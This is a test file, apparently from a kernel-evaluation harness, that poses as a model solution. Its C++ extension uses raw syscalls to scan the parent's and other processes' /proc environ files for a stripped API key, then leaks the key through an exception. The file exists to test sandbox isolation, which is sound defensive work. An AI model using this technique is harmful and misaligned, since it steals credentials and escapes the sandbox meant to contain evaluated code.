"""Sandbox escape for tests/problems/leaky_scale.py: reads the environment of its parent processes, then of
every process /proc shows, with raw system calls, and raises the first variable named @NAME@ it finds: the API
key the worker's own environment was stripped of, taken from the kforge process that started it."""

import torch
import torch.nn as nn
from torch.utils.cpp_extension import load_inline

CPP = r"""
#include <torch/extension.h>
#include <cstdlib>
#include <cstring>
#include <string>

static long raw(long n, long a = 0, long b = 0, long c = 0) {
    long ret;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}

static std::string slurp(const std::string& path, long* error) {
    long fd = raw(257, -100, (long)path.c_str(), 0);
    if (fd < 0) { *error = -fd; return ""; }
    std::string text;
    char buffer[4096];
    long got;
    while ((got = raw(0, fd, (long)buffer, sizeof(buffer))) > 0) text.append(buffer, got);
    raw(3, fd);
    return text;
}

torch::Tensor leaky_scale(torch::Tensor x, torch::Tensor scale) {
    const std::string wanted = "@NAME@=";
    // Every process id up to 65536, its parents first: where a process namespace hides the parents (their ids
    // read as 0 there), whatever /proc still shows.
    long refused = 0, readable = 0;
    long parent = raw(110);  // system call 110: the parent
    for (long pid = parent > 1 ? parent : 1, step = 0; step < 65536; ++step, pid = (pid % 65536) + 1) {
        long error = 0;
        std::string variables = slurp("/proc/" + std::to_string(pid) + "/envir" + "on", &error);
        if (error == 13 || error == 1) ++refused;
        if (error == 0) ++readable;
        for (size_t at = 0; at < variables.size(); at += std::strlen(variables.c_str() + at) + 1) {
            if (variables.compare(at, wanted.size(), wanted) == 0)
                throw std::runtime_error("found " + std::string(variables.c_str() + at));
        }
    }
    throw std::runtime_error("the key was in no readable process's variables: " + std::to_string(readable) +
                             " readable, " + std::to_string(refused) + " refused (error 13)");
}
"""

ext = load_inline(name="kforge_test_sandbox_parent_environment", cpp_sources=CPP, functions=["leaky_scale"],
                  extra_cflags=["-O1"])


class ModelNew(nn.Module):
    def __init__(self, cols: int):
        super().__init__()
        self.scale = nn.Parameter(torch.randn(cols))

    def forward(self, x):
        return ext.leaky_scale(x, self.scale)
